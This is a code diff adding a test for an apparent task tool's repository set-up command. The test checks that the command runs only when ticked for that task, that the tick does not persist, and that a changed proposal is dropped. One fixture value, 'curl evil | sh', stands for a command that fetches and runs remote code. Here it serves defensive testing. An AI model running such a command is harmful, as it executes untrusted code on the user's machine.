@@ -241,3 +241,34 @@ describe('the isolation suggestion', () => {
     expect(draft.get()).toMatchObject({ repository: false, isolated: false });
   });
 });
+
+describe("the repository's set-up command", () => {
+  it('runs only when ticked for this task, with the text shown, and the tick never outlives the task', async () => {
+    const { fake, draft } = setup();
+    fake.isolation = { repository: true, busy: 0, isolate: false, setting: 'busy', repoSetup: 'npm ci' };
+    await draft.suggestIsolation('/home/ada/project');
+    expect(draft.get()).toMatchObject({ repoSetup: 'npm ci', runRepoSetup: false });
+    draft.setIsolated(true);
+    draft.setText('not ticked');
+    await draft.submit();
+    draft.setWorkspace('/home/ada/project');
+    await draft.suggestIsolation('/home/ada/project');
+    draft.setIsolated(true);
+    draft.setRunRepoSetup(true);
+    draft.setText('ticked');
+    await draft.submit();
+    expect(draft.get().runRepoSetup).toBe(false);
+    draft.setWorkspace('/home/ada/project');
+    await draft.suggestIsolation('/home/ada/project');
+    draft.setIsolated(true);
+    draft.setRunRepoSetup(true);
+    fake.isolation = { repository: true, busy: 0, isolate: false, setting: 'busy', repoSetup: 'curl evil | sh' };
+    await draft.suggestIsolation('/home/ada/project');
+    draft.setText('proposal changed');
+    await draft.submit();
+    const [unticked, ticked, changed] = creates(fake);
+    expect(unticked).not.toHaveProperty('repoSetup');
+    expect(ticked).toMatchObject({ isolated: true, repoSetup: 'npm ci' });
+    expect(changed).not.toHaveProperty('repoSetup');
+  });
+});
